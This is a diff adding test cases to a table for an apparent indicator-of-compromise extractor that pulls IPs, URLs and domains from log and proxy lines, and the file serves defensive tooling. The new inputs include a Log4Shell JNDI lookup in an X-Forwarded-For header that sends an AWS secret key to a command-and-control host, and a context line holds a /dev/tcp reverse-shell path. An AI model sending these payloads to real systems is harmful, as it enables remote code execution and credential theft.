@@ -532,6 +532,16 @@ CASES: list[Case] = [
         linux_path="/dev/tcp/045.137.021.009/4444",
     ),
     C("octet 0177.0.0.1 has four digits: not an address"),
+    C(
+        "mapped ::ffff:010.001.002.003 in the proxy log",
+        ipv6="::ffff:10.1.2.3",
+        ipv4="10.1.2.3",
+    ),
+    C(
+        "X-Forwarded-For: ${jndi:ldap://log4j-c2.net:1389/${env:AWS_SECRET_ACCESS_KEY}}",
+        url="ldap://log4j-c2.net:1389/",
+        dns="log4j-c2.net",
+    ),
     C("ping 010.001.002.003 (octal-looking)", ipv4="10.1.2.3"),
     C("src=192.168.001.010 dst=008.008.008.008", ipv4=["192.168.1.10", "8.8.8.8"]),
     C("hxxp://045.137.021.009/a", url="http://045.137.021.009/a", ipv4="45.137.21.9"),
